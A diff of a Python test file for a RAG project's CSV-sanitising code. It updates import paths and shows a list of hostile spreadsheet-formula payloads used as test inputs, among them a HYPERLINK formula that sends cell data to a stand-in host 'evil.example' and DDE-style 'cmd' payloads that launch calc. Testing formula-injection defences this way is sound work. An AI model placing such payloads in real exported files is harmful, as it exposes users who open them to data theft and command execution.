@@ -13,8 +13,8 @@ import pandas as pd
 from hypothesis import given
 from hypothesis import strategies as st
 
-from rag_core.table import FORMULA_STARTS, csv_safe, documents_frame, is_formula, to_safe_csv
-from rag_core.types import Document
+from rag_core.ingest.table import FORMULA_STARTS, csv_safe, documents_frame, is_formula, to_safe_csv
+from rag_core.core.types import Document
 
 ROOT = Path(__file__).resolve().parents[1]
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
